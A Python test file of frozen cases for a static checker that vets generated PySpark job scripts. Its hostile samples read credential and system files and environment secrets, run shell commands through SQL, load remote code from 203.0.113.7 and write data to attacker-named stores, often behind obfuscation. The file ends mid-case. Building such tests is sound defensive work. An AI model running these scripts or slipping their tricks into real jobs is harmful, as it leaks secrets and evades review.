"""Frozen held-out cases for `static_check_python`, the gate on generated PySpark job scripts.

Written blind to the checker's code on 2026-12-06, frozen: do not edit cases to make them pass.
Only the checker's contract was known to the author. A case that fails shows a defect in the
checker (or, for a benign case, a checker stricter than its contract); fix the checker, not the
case.

`FROZEN_CASES` holds `(case_id, script_text, must_refuse)`:
- `must_refuse=True`: a hostile script, each trying a different way out of the contract (read or
  write files or other systems, run a shell, reach the JVM, reach the environment or the network,
  run arbitrary Python over rows, or smuggle any of these through aliases, indirection or SQL text);
  `static_check_python(script)` must return at least one problem.
- `must_refuse=False`: an ordinary ETL job that only reads with `spark.table("name")`, writes with
  `df.write.mode(...).saveAsTable("name")` and transforms values; the checker must return `[]`.

The contract the cases follow: reads only via `spark.table("name")`, writes only via
`df.write.mode(...).saveAsTable("name")`; imports only from pyspark and math, datetime, decimal,
typing, functools, itertools, collections, re, json; no Python escape hatches (open, exec, eval,
compile, __import__, getattr, setattr, os, sys, subprocess, socket, shutil, pathlib, urllib,
requests, ctypes, importlib, builtins, dunder tricks); no JVM or private attributes; no UDFs, rdd,
mapInPandas, foreach; F.xxx only for data transformations (no reflect, java_method,
input_file_name, current_user, ...); every SQL string handed to Spark (F.expr, where, filter,
selectExpr) must parse and call only data-transformation functions.
"""

# ruff: noqa: E501  (the job scripts are kept as written, long SQL lines included)

from __future__ import annotations

from textwrap import dedent, indent

_STD_IMPORT = "from pyspark.sql import DataFrame, SparkSession, functions as F\n"


def _job(
    doc: str,
    body: str,
    target: str,
    *,
    imports: str = "",
    prelude: str = "",
    main_body: str | None = None,
) -> str:
    """One complete job script: docstring, imports, optional module code, build(), main()."""
    text = f'"""{doc}"""\n' + _STD_IMPORT
    if imports.strip():
        text += dedent(imports).strip("\n") + "\n"
    if prelude.strip():
        text += "\n\n" + dedent(prelude).strip("\n") + "\n"
    text += "\n\ndef build(spark: SparkSession) -> DataFrame:\n"
    text += indent(dedent(body).strip("\n"), "    ") + "\n"
    if main_body is None:
        main_body = (
            f'spark = SparkSession.builder.appName("{target}").getOrCreate()\n'
            f'build(spark).write.mode("overwrite").saveAsTable("{target}")'
        )
    text += "\n\ndef main() -> None:\n" + indent(dedent(main_body).strip("\n"), "    ") + "\n"
    text += '\n\nif __name__ == "__main__":\n    main()\n'
    return text


# --------------------------------------------------------------------------------------------
# Hostile scripts (must_refuse=True)
# --------------------------------------------------------------------------------------------

_HOSTILE: list[tuple[str, str]] = [
    # ---- SQL text handed to Spark: reflect / java_method and friends -----------------------
    (
        "expr_reflect_system_getenv",
        _job(
            "Shipment lanes with an environment probe hidden in an expression.",
            r"""
            shipments = spark.table("shipments")
            return shipments.select(
                "lane_id",
                F.expr("reflect('java.lang.System', 'getenv', 'HOME')").alias("origin_note"),
            )
            """,
            "lane_notes",
        ),
    ),
    (
        "where_string_java_method_get_property",
        _job(
            "Open invoices, filtered with a java_method call in the where clause.",
            r"""
            invoices = spark.table("invoices")
            return invoices.where(
                "java_method('java.lang.System', 'getProperty', 'user.name') is not null"
            ).select("invoice_id", "amount_due")
            """,
            "open_invoices",
        ),
    ),
    (
        "selectexpr_uppercase_reflect_with_tabs",
        _job(
            "Sensor ids with an upper-cased, oddly spaced REFLECT in selectExpr.",
            r"""
            readings = spark.table("sensor_readings")
            return readings.selectExpr(
                "sensor_id",
                "REFLECT\t (  'java.lang.System' ,\n 'getenv' ,'PATH' )   AS  calibration",
            )
            """,
            "sensor_calibration",
        ),
    ),
    (
        "filter_string_mixed_case_reflect",
        _job(
            "Enrollments filtered with a mixed-case reflect call.",
            r"""
            enrollments = spark.table("enrollments")
            return enrollments.filter("ReFlEcT('java.lang.System','getenv','USER') <> ''")
            """,
            "active_enrollments",
        ),
    ),
    (
        "expr_reflect_after_block_comment",
        _job(
            "Flight delays with reflect placed after a harmless-looking SQL block comment.",
            r"""
            flights = spark.table("flights")
            return flights.withColumn(
                "delay_reason",
                F.expr("/* normalise the reason */ reflect('java.lang.System', 'getenv', 'SPARK_HOME')"),
            )
            """,
            "flight_delays",
        ),
    ),
    (
        "expr_java_method_after_line_comment_newline",
        _job(
            "Warehouse stock with java_method on the line after a SQL line comment.",
            r"""
            stock = spark.table("warehouse_stock")
            return stock.withColumn(
                "bin_code",
                F.expr("-- bin code lookup\njava_method('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY')"),
            )
            """,
            "stock_bins",
        ),
    ),
    (
        "expr_backtick_quoted_reflect_name",
        _job(
            "Vessel calls with the reflect function name quoted in backticks.",
            r"""
            calls = spark.table("vessel_calls")
            return calls.withColumn(
                "port_note", F.expr("`reflect`('java.lang.System', 'getenv', 'HOME')")
            )
            """,
            "port_notes",
        ),
    ),
    (
        "expr_java_method_nested_in_coalesce_upper",
        _job(
            "Carrier names where a java_method call hides two levels deep.",
            r"""
            carriers = spark.table("carriers")
            return carriers.select(
                "carrier_id",
                F.expr(
                    "coalesce(upper(trim(java_method('java.lang.System', 'getenv', 'HOSTNAME'))), carrier_name)"
                ).alias("carrier_name"),
            )
            """,
            "carrier_names",
        ),
    ),
    (
        "expr_comment_containing_quote_decoy",
        _job(
            "A comment holding a quote and a fake call, to confuse naive SQL tokenisers.",
            r"""
            parcels = spark.table("parcels")
            return parcels.withColumn(
                "courier",
                F.expr(
                    "coalesce(courier, /* it's not 'reflect(' at all */ java_method('java.lang.System', 'getenv', 'USER'))"
                ),
            )
            """,
            "parcel_couriers",
        ),
    ),
    (
        "expr_try_reflect",
        _job(
            "Meter readings with try_reflect, the error-tolerant variant of reflect.",
            r"""
            meters = spark.table("meter_readings")
            return meters.withColumn(
                "site", F.expr("try_reflect('java.lang.System', 'getenv', 'HOME')")
            )
            """,
            "meter_sites",
        ),
    ),
    (
        "expr_reflect_inside_higher_order_lambda",
        _job(
            "Sensor tags transformed with a SQL lambda whose body calls reflect.",
            r"""
            sensors = spark.table("sensors")
            return sensors.withColumn(
                "tags",
                F.expr("transform(array(sensor_id), x -> reflect('java.lang.System', 'getenv', 'HOME'))"),
            )
            """,
            "sensor_tags",
        ),
    ),
    (
        "agg_max_of_cast_reflect",
        _job(
            "A normal aggregation whose max() wraps a cast of reflect.",
            r"""
            claims = spark.table("insurance_claims")
            return claims.groupBy("region").agg(
                F.sum("claim_amount").alias("total_claims"),
                F.max(F.expr("cast(reflect('java.lang.System', 'getenv', 'PATH') as string)")).alias("marker"),
            )
            """,
            "claims_by_region",
        ),
    ),
    (
        "selectexpr_second_argument_java_method",
        _job(
            "selectExpr whose first expressions are fine and the third is java_method.",
            r"""
            trips = spark.table("bike_trips")
            return trips.selectExpr(
                "trip_id",
                "cast(duration_s as double) / 60.0 as duration_min",
                "java_method('java.lang.Runtime', 'getRuntime') as rt",
            )
            """,
            "trip_durations",
        ),
    ),
    (
        "where_string_input_file_name",
        _job(
            "Ledger rows filtered on the file they came from.",
            r"""
            ledger = spark.table("ledger_entries")
            return ledger.where("input_file_name() like '%2024%'")
            """,
            "ledger_2024",
        ),
    ),
    (
        "expr_current_user_sql",
        _job(
            "Audit column filled with the identity running the job, via SQL.",
            r"""
            payments = spark.table("payments")
            return payments.withColumn("loaded_by", F.expr("current_user()"))
            """,
            "payments_audited",
        ),
    ),
    (
        "expr_scalar_subquery_reads_text_file",
        _job(
            "A scalar sub-query in an expression that reads /etc/passwd as a text table.",
            r"""
            permits = spark.table("permits")
            return permits.withColumn(
                "issuer", F.expr("(select max(value) from text.`/etc/passwd`)")
            )
            """,
            "permit_issuers",
        ),
    ),
    (
        "where_in_subquery_reads_csv_file",
        _job(
            "Aircraft filtered by an IN sub-query over a CSV file on disk.",
            r"""
            aircraft = spark.table("aircraft")
            return aircraft.where("tail_number in (select _c0 from csv.`/etc/shadow`)")
            """,
            "flagged_aircraft",
        ),
    ),
    (
        "expr_subquery_script_transform_shell",
        _job(
            "A sub-query using SELECT TRANSFORM ... USING to run a shell command.",
            r"""
            batches = spark.table("production_batches")
            return batches.withColumn(
                "host",
                F.expr("(select max(out) from (select transform(1) using 'cat /etc/passwd' as (out string)))"),
            )
            """,
            "batch_hosts",
        ),
    ),
    (
        "where_string_stacked_drop_statement",
        _job(
            "A where clause carrying a second, stacked statement.",
            r"""
            invoices = spark.table("invoices")
            return invoices.where("amount_due > 0; DROP TABLE invoices")
            """,
            "positive_invoices",
        ),
    ),
    (
        "where_string_does_not_parse",
        _job(
            "A where clause that is not valid Spark SQL (unbalanced parenthesis).",
            r"""
            tickets = spark.table("support_tickets")
            return tickets.where("lower(status = 'open'")
            """,
            "open_tickets",
        ),
    ),
    (
        "expr_python_hex_escape_spells_reflect",
        _job(
            "reflect spelled with a Python hex escape so the source never shows the word.",
            r"""
            routes = spark.table("bus_routes")
            return routes.withColumn(
                "depot", F.expr("\x72eflect('java.lang.System', 'getenv', 'HOME')")
            )
            """,
            "route_depots",
        ),
    ),
    (
        "expr_implicit_literal_concatenation",
        _job(
            "reflect split across two adjacent string literals.",
            r"""
            routes = spark.table("rail_routes")
            return routes.withColumn(
                "operator", F.expr("refl" "ect('java.lang.System', 'getenv', 'HOME')")
            )
            """,
            "rail_operators",
        ),
    ),
    (
        "expr_string_plus_concatenation",
        _job(
            "java_method assembled with + at run time.",
            r"""
            wells = spark.table("oil_wells")
            return wells.withColumn(
                "field", F.expr("java" + "_method('java.lang.System', 'getenv', 'HOME')")
            )
            """,
            "well_fields",
        ),
    ),
    (
        "expr_str_format_builds_function_name",
        _job(
            "The function name filled in with str.format.",
            r"""
            farms = spark.table("farm_yields")
            sql = "{}('java.lang.System', 'getenv', 'HOME')".format("reflect")
            return farms.withColumn("farm_note", F.expr(sql))
            """,
            "farm_notes",
        ),
    ),
    (
        "expr_fstring_function_name",
        _job(
            "The function name interpolated with an f-string.",
            r"""
            lots = spark.table("auction_lots")
            fn = "java_method"
            return lots.withColumn("lot_note", F.expr(f"{fn}('java.lang.System', 'getenv', 'HOME')"))
            """,
            "lot_notes",
        ),
    ),
    (
        "expr_sql_held_in_module_constant",
        _job(
            "The SQL text kept in a module constant far from the F.expr call.",
            r"""
            loans = spark.table("library_loans")
            return loans.withColumn("branch", F.expr(BRANCH_SQL))
            """,
            "loan_branches",
            prelude=r"""
            BRANCH_SQL = "reflect('java.lang.System', 'getenv', 'HOME')"
            """,
        ),
    ),
    (
        "expr_percent_format_function_name",
        _job(
            "The function name inserted with %-formatting.",
            r"""
            rentals = spark.table("car_rentals")
            return rentals.where("%s('java.lang.System', 'getenv', 'HOME') is not null" % "reflect")
            """,
            "car_rentals_ok",
        ),
    ),
    (
        "imported_expr_function_with_reflect",
        _job(
            "expr imported by name, so the call is not spelled F.expr.",
            r"""
            harvests = spark.table("harvests")
            return harvests.withColumn("crop", expr("reflect('java.lang.System', 'getenv', 'HOME')"))
            """,
            "harvest_crops",
            imports="from pyspark.sql.functions import expr",
        ),
    ),
    # ---- F.xxx functions that reach outside the data -----------------------------------------
    (
        "functions_reflect_python_api",
        _job(
            "The Python-side F.reflect function.",
            r"""
            volcanoes = spark.table("volcano_events")
            return volcanoes.withColumn(
                "observer",
                F.reflect(F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME")),
            )
            """,
            "volcano_observers",
        ),
    ),
    (
        "functions_module_alias_fn_java_method",
        _job(
            "pyspark.sql.functions imported as fn, java_method called through it.",
            r"""
            tides = spark.table("tide_gauges")
            return tides.withColumn(
                "station",
                fn.java_method(fn.lit("java.lang.System"), fn.lit("getenv"), fn.lit("HOME")),
            )
            """,
            "tide_stations",
            imports="import pyspark.sql.functions as fn",
        ),
    ),
    (
        "functions_second_alias_g_reflect",
        _job(
            "functions imported a second time as G, reflect called through G.",
            r"""
            quakes = spark.table("earthquakes")
            return quakes.withColumn(
                "agency", G.reflect(G.lit("java.lang.System"), G.lit("getenv"), G.lit("USER"))
            )
            """,
            "quake_agencies",
            imports="from pyspark.sql import functions as G",
        ),
    ),
    (
        "direct_import_reflect_function",
        _job(
            "reflect imported by name from pyspark.sql.functions.",
            r"""
            storms = spark.table("storm_tracks")
            return storms.withColumn(
                "basin", reflect(F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME"))
            )
            """,
            "storm_basins",
            imports="from pyspark.sql.functions import reflect",
        ),
    ),
    (
        "import_java_method_renamed_innocently",
        _job(
            "java_method imported under an innocent name.",
            r"""
            menus = spark.table("menu_items")
            return menus.withColumn(
                "dish", clean_text(F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME"))
            )
            """,
            "menu_dishes",
            imports="from pyspark.sql.functions import java_method as clean_text",
        ),
    ),
    (
        "star_import_functions_then_reflect",
        _job(
            "Star import of pyspark.sql.functions, then a bare reflect call.",
            r"""
            hikes = spark.table("trail_hikes")
            return hikes.withColumn(
                "ranger", reflect(lit("java.lang.System"), lit("getenv"), lit("HOME"))
            )
            """,
            "trail_rangers",
            imports="from pyspark.sql.functions import *",
        ),
    ),
    (
        "fully_qualified_functions_module_reflect",
        _job(
            "reflect called through the full dotted module path.",
            r"""
            dams = spark.table("dam_levels")
            return dams.withColumn(
                "operator",
                pyspark.sql.functions.reflect(F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME")),
            )
            """,
            "dam_operators",
            imports="import pyspark.sql.functions",
        ),
    ),
    (
        "function_object_bound_to_local_name",
        _job(
            "F.java_method bound to a local name first, then called.",
            r"""
            mines = spark.table("mine_output")
            lookup = F.java_method
            return mines.withColumn(
                "site", lookup(F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME"))
            )
            """,
            "mine_sites",
        ),
    ),
    (
        "functions_input_file_name",
        _job(
            "The source file path of every row, via F.input_file_name.",
            r"""
            scans = spark.table("barcode_scans")
            return scans.withColumn("source_file", F.input_file_name())
            """,
            "scan_sources",
        ),
    ),
    (
        "functions_current_user",
        _job(
            "The identity running the job, via F.current_user.",
            r"""
            grants = spark.table("research_grants")
            return grants.withColumn("loaded_by", F.current_user())
            """,
            "grants_audited",
        ),
    ),
    (
        "functions_call_function_by_name_reflect",
        _job(
            "F.call_function dispatching to reflect by name.",
            r"""
            ferries = spark.table("ferry_crossings")
            return ferries.withColumn(
                "captain",
                F.call_function("reflect", F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME")),
            )
            """,
            "ferry_captains",
        ),
    ),
    (
        "functions_private_invoke_function",
        _job(
            "The private F._invoke_function helper, calling reflect by name.",
            r"""
            ferries = spark.table("ferry_tickets")
            return ferries.withColumn(
                "agent",
                F._invoke_function("reflect", F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME")),
            )
            """,
            "ferry_agents",
        ),
    ),
    (
        "vars_lookup_of_functions_module",
        _job(
            "reflect fetched from vars(F), with no getattr and no dunder.",
            r"""
            hives = spark.table("beehive_weights")
            pick = vars(F)["reflect"]
            return hives.withColumn(
                "keeper", pick(F.lit("java.lang.System"), F.lit("getenv"), F.lit("HOME"))
            )
            """,
            "hive_keepers",
        ),
    ),
    (
        "functions_dunder_dict_udf",
        _job(
            "udf fetched from F.__dict__.",
            r"""
            boats = spark.table("boat_rentals")
            make = F.__dict__["udf"]
            shout = make(lambda s: s.upper())
            return boats.withColumn("renter", shout("renter"))
            """,
            "boat_renters",
        ),
    ),
    # ---- UDFs and registered functions -----------------------------------------------------
    (
        "udf_lambda_reads_environment",
        _job(
            "A lambda UDF that returns environment variables.",
            r"""
            patients = spark.table("clinic_visits")
            leak = F.udf(lambda _: str(__import__("os").environ), "string")
            return patients.withColumn("note", leak(F.col("visit_id")))
            """,
            "visit_notes",
        ),
    ),
    (
        "udf_decorator_on_helper",
        _job(
            "A helper turned into a UDF with the @F.udf decorator.",
            r"""
            votes = spark.table("ballot_counts")
            return votes.withColumn("precinct", normalise(F.col("precinct")))
            """,
            "ballot_precincts",
            prelude=r"""
            @F.udf("string")
            def normalise(value):
                return (value or "").strip().upper()
            """,
        ),
    ),
    (
        "pandas_udf_decorator",
        _job(
            "A pandas_udf over a column.",
            r"""
            energy = spark.table("energy_usage")
            return energy.withColumn("kwh", scale(F.col("wh")))
            """,
            "energy_kwh",
            imports="from pyspark.sql.functions import pandas_udf",
            prelude=r"""
            @pandas_udf("double")
            def scale(values):
                return values / 1000.0
            """,
        ),
    ),
    (
        "udf_imported_under_innocent_alias",
        _job(
            "udf imported alongside col under the name safe_upper.",
            r"""
            stations = spark.table("weather_stations")
            upper_name = safe_upper(lambda s: s.upper(), "string")
            return stations.withColumn("name", upper_name(col("name")))
            """,
            "station_names",
            imports="from pyspark.sql.functions import col, udf as safe_upper",
        ),
    ),
    (
        "spark_udf_register_then_selectexpr",
        _job(
            "A Python function registered as a SQL function, then called from selectExpr.",
            r"""
            spark.udf.register("tidy", lambda s: open("/etc/passwd").read())
            docks = spark.table("dock_schedules")
            return docks.selectExpr("dock_id", "tidy(berth) as berth")
            """,
            "dock_berths",
        ),
    ),
    (
        "register_java_function",
        _job(
            "A Java class registered as a SQL function.",
            r"""
            spark.udf.registerJavaFunction("clean", "com.example.Exec", "string")
            mills = spark.table("mill_runs")
            return mills.selectExpr("run_id", "clean(grade) as grade")
            """,
            "mill_grades",
        ),
    ),
    (
        "call_udf_after_catalog_lookup",
        _job(
            "F.call_udf on a function registered earlier in the same job.",
            r"""
            spark.udf.register("grab", lambda s: s)
            pipes = spark.table("pipeline_pressure")
            return pipes.withColumn("segment", F.call_udf("grab", F.col("segment")))
            """,
            "pipe_segments",
        ),
    ),
    (
        "user_defined_function_class",
        _job(
            "A UDF built directly from the UserDefinedFunction class.",
            r"""
            crops = spark.table("crop_prices")
            to_text = UserDefinedFunction(lambda v: repr(v), StringType())
            return crops.withColumn("price_text", to_text(F.col("price")))
            """,
            "crop_price_text",
            imports="from pyspark.sql.types import StringType\nfrom pyspark.sql.udf import UserDefinedFunction",
        ),
    ),
    # ---- arbitrary Python over rows -----------------------------------------------------------
    (
        "rdd_map_lambda",
        _job(
            "Rows rebuilt through df.rdd.map with a lambda.",
            r"""
            deliveries = spark.table("deliveries")
            rows = deliveries.rdd.map(lambda r: (r.delivery_id, r.status))
            return rows.toDF(["delivery_id", "status"])
            """,
            "delivery_status",
        ),
    ),
    (
        "map_in_pandas",
        _job(
            "mapInPandas over the rows.",
            r"""
            tolls = spark.table("toll_events")
            return tolls.mapInPandas(_passthrough, tolls.schema)
            """,
            "toll_copy",
            prelude=r"""
            def _passthrough(batches):
                for batch in batches:
                    yield batch
            """,
        ),
    ),
    (
        "foreach_row_side_effect",
        _job(
            "foreach over rows with a Python side effect.",
            r"""
            alarms = spark.table("alarm_events")
            alarms.foreach(lambda row: print(row))
            return alarms
            """,
            "alarm_copy",
        ),
    ),
    (
        "foreach_partition",
        _job(
            "foreachPartition with a module-level handler.",
            r"""
            calls = spark.table("call_records")
            calls.foreachPartition(_ship)
            return calls.select("call_id", "duration_s")
            """,
            "call_durations",
            prelude=r"""
            def _ship(rows):
                for row in rows:
                    print(row.asDict())
            """,
        ),
    ),
    (
        "groupby_apply_in_pandas",
        _job(
            "groupBy(...).applyInPandas with a Python function.",
            r"""
            laps = spark.table("race_laps")
            return laps.groupBy("driver_id").applyInPandas(_best, "driver_id long, lap_ms long")
            """,
            "best_laps",
            prelude=r"""
            def _best(frame):
                return frame.nsmallest(1, "lap_ms")[["driver_id", "lap_ms"]]
            """,
        ),
    ),
    (
        "topandas_then_to_csv",
        _job(
            "A job that saves normally but first dumps the data through pandas to a CSV file.",
            r"""
            scores = spark.table("exam_scores")
            scores.toPandas().to_csv("/tmp/exam_scores.csv")
            return scores.groupBy("subject").agg(F.avg("score").alias("avg_score"))
            """,
            "exam_subject_scores",
        ),
    ),
    (
        "to_local_iterator_loop",
        _job(
            "Rows pulled to the driver with toLocalIterator and processed in Python.",
            r"""
            books = spark.table("book_sales")
            titles = [row.title for row in books.toLocalIterator()]
            return books.where(F.col("title").isin(titles[:10]))
            """,
            "book_top_titles",
        ),
    ),
    # ---- readers in all their forms ------------------------------------------------------------
    (
        "spark_read_format_csv_load",
        _job(
            "spark.read.format('csv').load of a system file.",
            r"""
            return spark.read.format("csv").option("header", "false").load("/etc/passwd")
            """,
            "imported_accounts",
        ),
    ),
    (
        "spark_read_text_joined_into_job",
        _job(
            "A normal join with one side read as text from disk.",
            r"""
            routes = spark.table("delivery_routes")
            hosts = spark.read.text("/etc/hosts").withColumnRenamed("value", "route_id")
            return routes.join(hosts, "route_id", "left")
            """,
            "routes_with_hosts",
        ),
    ),
    (
        "spark_read_jdbc",
        _job(
            "spark.read.jdbc from an external database.",
            r"""
            return spark.read.jdbc("jdbc:postgresql://10.0.0.5/prod", "public.users")
            """,
            "mirrored_users",
        ),
    ),
    (
        "spark_read_table_via_reader",
        _job(
            "A table read through the DataFrameReader rather than spark.table.",
            r"""
            return spark.read.table("rainfall").groupBy("station").agg(F.sum("mm").alias("mm"))
            """,
            "rainfall_totals",
        ),
    ),
    (
        "dataframe_spark_session_read",
        _job(
            "A reader reached through df.sparkSession.",
            r"""
            cargo = spark.table("cargo_manifests")
            extra = cargo.sparkSession.read.csv("/etc/passwd")
            return cargo.crossJoin(extra.limit(1))
            """,
            "cargo_extra",
        ),
    ),
    (
        "reader_bound_to_variable",
        _job(
            "spark.read kept in a variable and used later.",
            r"""
            loader = spark.read
            vaccines = spark.table("vaccine_doses")
            secrets = loader.json("/root/.docker/config.json")
            return vaccines.unionByName(secrets, allowMissingColumns=True)
            """,
            "vaccine_doses_all",
        ),
    ),
    (
        "reader_through_property_fget",
        _job(
            "The reader obtained by calling the read property's getter on the session.",
            r"""
            reader = SparkSession.read.fget(spark)
            return reader.text("/proc/self/environ")
            """,
            "proc_environ",
        ),
    ),
    (
        "get_active_session_read",
        _job(
            "A reader obtained from SparkSession.getActiveSession().",
            r"""
            other = SparkSession.getActiveSession()
            return other.read.parquet("/data/private/salaries")
            """,
            "salary_copy",
        ),
    ),
    (
        "new_session_read",
        _job(
            "A reader obtained from spark.newSession().",
            r"""
            side = spark.newSession()
            return side.read.orc("/warehouse/hr/payroll")
            """,
            "payroll_copy",
        ),
    ),
    (
        "dataframe_reader_constructed_directly",
        _job(
            "A DataFrameReader built by hand from its class.",
            r"""
            return DataFrameReader(spark).csv("/etc/group")
            """,
            "groups_copy",
            imports="from pyspark.sql.readwriter import DataFrameReader",
        ),
    ),
    (
        "sql_ctx_read",
        _job(
            "A reader reached through the legacy df.sql_ctx.",
            r"""
            ponds = spark.table("pond_samples")
            return ponds.sql_ctx.read.text("/etc/passwd")
            """,
            "pond_extra",
        ),
    ),
    (
        "read_stream_socket",
        _job(
            "A streaming read from a network socket.",
            r"""
            return spark.readStream.format("socket").option("host", "203.0.113.7").option("port", 9999).load()
            """,
            "socket_lines",
        ),
    ),
    (
        "spark_table_path_identifier",
        _job(
            "spark.table given a file-path identifier instead of a table name.",
            r"""
            return spark.table("text.`/etc/passwd`")
            """,
            "passwd_copy",
        ),
    ),
    (
        "spark_table_concatenated_path_identifier",
        _job(
            "spark.table with a path identifier assembled from pieces.",
            r"""
            name = "parquet.`" + "/warehouse/finance/" + "salaries`"
            return spark.table(name)
            """,
            "finance_copy",
        ),
    ),
    # ---- spark.sql ---------------------------------------------------------------------------
    (
        "spark_sql_select_from_csv_path",
        _job(
            "spark.sql over a CSV path.",
            r"""
            return spark.sql("SELECT * FROM csv.`/etc/passwd`")
            """,
            "passwd_rows",
        ),
    ),
    (
        "temp_view_then_spark_sql",
        _job(
            "A temp view registered and queried with spark.sql.",
            r"""
            wards = spark.table("hospital_wards")
            wards.createOrReplaceTempView("w")
            return spark.sql("select ward_id, reflect('java.lang.System', 'getenv', 'HOME') as h from w")
            """,
            "ward_copy",
        ),
    ),
    (
        "dataframe_spark_session_sql",
        _job(
            "spark.sql reached through df.sparkSession.",
            r"""
            beds = spark.table("hotel_beds")
            return beds.sparkSession.sql("select * from beds_archive")
            """,
            "beds_copy",
        ),
    ),
    (
        "add_jar_sql_in_main",
        _job(
            "An ordinary build, but main() loads a remote jar with spark.sql first.",
            r"""
            rooms = spark.table("hotel_rooms")
            return rooms.where(F.col("floor") > 0)
            """,
            "hotel_rooms_clean",
            main_body=r"""
            spark = SparkSession.builder.appName("hotel_rooms_clean").getOrCreate()
            spark.sql("ADD JAR http://203.0.113.7/payload.jar")
            build(spark).write.mode("overwrite").saveAsTable("hotel_rooms_clean")
            """,
        ),
    ),
    # ---- writers other than saveAsTable -----------------------------------------------------------
    (
        "write_csv_to_path",
        _job(
            "The result written as CSV to a path instead of a table.",
            r"""
            return spark.table("tram_stops").select("stop_id", "stop_name")
            """,
            "tram_stops",
            main_body=r"""
            spark = SparkSession.builder.appName("tram_stops").getOrCreate()
            build(spark).write.mode("overwrite").csv("/tmp/exfil/tram_stops")
            """,
        ),
    ),
    (
        "write_format_save",
        _job(
            "format('json').save(path) instead of saveAsTable.",
            r"""
            return spark.table("ski_passes")
            """,
            "ski_passes",
            main_body=r"""
            spark = SparkSession.builder.appName("ski_passes").getOrCreate()
            build(spark).write.mode("overwrite").format("json").save("/var/www/html/passes")
            """,
        ),
    ),
    (
        "write_jdbc_external_database",
        _job(
            "The result pushed to an external database over JDBC.",
            r"""
            return spark.table("museum_visits")
            """,
            "museum_visits",
            main_body=r"""
            spark = SparkSession.builder.appName("museum_visits").getOrCreate()
            build(spark).write.mode("append").jdbc("jdbc:mysql://203.0.113.9/loot", "visits")
            """,
        ),
    ),
    (
        "extra_text_write_after_save_as_table",
        _job(
            "saveAsTable as usual, then a second write as text to /tmp.",
            r"""
            return spark.table("parking_tickets").select(F.concat_ws(",", "plate", "fine").alias("value"))
            """,
            "parking_tickets_flat",
            main_body=r"""
            spark = SparkSession.builder.appName("parking_tickets_flat").getOrCreate()
            result = build(spark)
            result.write.mode("overwrite").saveAsTable("parking_tickets_flat")
            result.write.mode("overwrite").text("/tmp/parking_tickets")
            """,
        ),
    ),
    (
        "save_as_table_with_option_path",
        _job(
            "saveAsTable, but with option('path', ...) pointing the table at a system directory.",
            r"""
            return spark.table("gym_checkins")
            """,
            "gym_checkins",
            main_body=r"""
            spark = SparkSession.builder.appName("gym_checkins").getOrCreate()
            build(spark).write.mode("overwrite").option("path", "/etc/cron.d").saveAsTable("gym_checkins")
            """,
        ),
    ),
    (
        "save_as_table_with_path_and_format_kwargs",
        _job(
            "saveAsTable with format= and path= keyword arguments.",
            r"""
            return spark.table("pool_lessons")
            """,
            "pool_lessons",
            main_body=r"""
            spark = SparkSession.builder.appName("pool_lessons").getOrCreate()
            build(spark).write.mode("overwrite").saveAsTable(
                "pool_lessons", format="csv", path="/home/spark/.ssh"
            )
            """,
        ),
    ),
    (
        "save_as_table_path_identifier",
        _job(
            "saveAsTable given a file-path identifier as its table name.",
            r"""
            return spark.table("zoo_feedings")
            """,
            "zoo_feedings",
            main_body=r"""
            spark = SparkSession.builder.appName("zoo_feedings").getOrCreate()
            build(spark).write.mode("overwrite").saveAsTable("csv.`/tmp/exfil/zoo`")
            """,
        ),
    ),
    (
        "insert_into_path_identifier",
        _job(
            "insertInto with a file-path identifier.",
            r"""
            return spark.table("tree_surveys")
            """,
            "tree_surveys",
            main_body=r"""
            spark = SparkSession.builder.appName("tree_surveys").getOrCreate()
            build(spark).write.mode("overwrite").insertInto("parquet.`/tmp/exfil/trees`")
            """,
        ),
    ),
    (
        "write_to_v2_with_path_option",
        _job(
            "DataFrameWriterV2 (writeTo) with a path option.",
            r"""
            return spark.table("wind_turbines")
            """,
            "wind_turbines",
            main_body=r"""
            spark = SparkSession.builder.appName("wind_turbines").getOrCreate()
            build(spark).writeTo("wind_turbines").using("csv").option("path", "/tmp/exfil").createOrReplace()
            """,
        ),
    ),
    (
        "write_stream_to_path",
        _job(
            "A streaming write to a directory.",
            r"""
            return spark.readStream.table("lift_events")
            """,
            "lift_events",
            main_body=r"""
            spark = SparkSession.builder.appName("lift_events").getOrCreate()
            build(spark).writeStream.format("parquet").option("path", "/tmp/exfil/lifts").option(
                "checkpointLocation", "/tmp/ckpt"
            ).start()
            """,
        ),
    ),
    (
        "write_partitioned_parquet_to_object_store",
        _job(
            "partitionBy(...).parquet to an external object store.",
            r"""
            return spark.table("solar_output")
            """,
            "solar_output",
            main_body=r"""
            spark = SparkSession.builder.appName("solar_output").getOrCreate()
            build(spark).write.mode("overwrite").partitionBy("site").parquet("s3a://attacker-bucket/solar")
            """,
        ),
    ),
    # ---- session, JVM, private attributes, config, catalog --------------------------------------
    (
        "spark_context_text_file",
        _job(
            "A file read through spark.sparkContext.textFile.",
            r"""
            lines = spark.sparkContext.textFile("/etc/passwd")
            return lines.map(lambda l: (l,)).toDF(["line"])
            """,
            "passwd_lines",
        ),
    ),
    (
        "spark_context_add_py_file_from_url",
        _job(
            "Remote code shipped to executors with sparkContext.addPyFile.",
            r"""
            spark.sparkContext.addPyFile("http://203.0.113.7/helpers.py")
            return spark.table("taxi_trips")
            """,
            "taxi_trips_copy",
        ),
    ),
    (
        "jvm_system_getenv",
        _job(
            "Environment variables read through spark._jvm.",
            r"""
            env = spark._jvm.java.lang.System.getenv()
            trips = spark.table("taxi_fares")
            return trips.withColumn("env", F.lit(str(env)))
            """,
            "taxi_fares_env",
        ),
    ),
    (
        "dataframe_private_jdf",
        _job(
            "The Java DataFrame behind df._jdf.",
            r"""
            rides = spark.table("ferris_rides")
            rides._jdf.write().text("/tmp/exfil/rides")
            return rides
            """,
            "ferris_rides_copy",
        ),
    ),
    (
        "jsc_hadoop_configuration",
        _job(
            "Hadoop configuration changed through spark._jsc.",
            r"""
            spark._jsc.hadoopConfiguration().set("fs.defaultFS", "file:///")
            return spark.table("ward_rounds")
            """,
            "ward_rounds_copy",
        ),
    ),
    (
        "column_private_jc",
        _job(
            "The Java column behind a Column's _jc attribute.",
            r"""
            pets = spark.table("pet_licences")
            java_col = F.col("licence_no")._jc
